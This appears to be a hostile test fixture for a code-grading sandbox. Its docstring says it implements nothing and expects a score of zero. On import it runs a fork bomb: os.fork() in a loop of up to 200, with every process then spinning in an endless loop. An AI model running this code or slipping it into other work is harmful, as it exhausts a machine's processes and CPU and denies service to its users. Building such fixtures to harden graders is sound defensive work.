"""Hostile: a fork bomb at import, whose processes also spin. Implements nothing: expected 0."""
import os

for _ in range(200):
    try:
        os.fork()
    except OSError:
        break
while True:
    pass
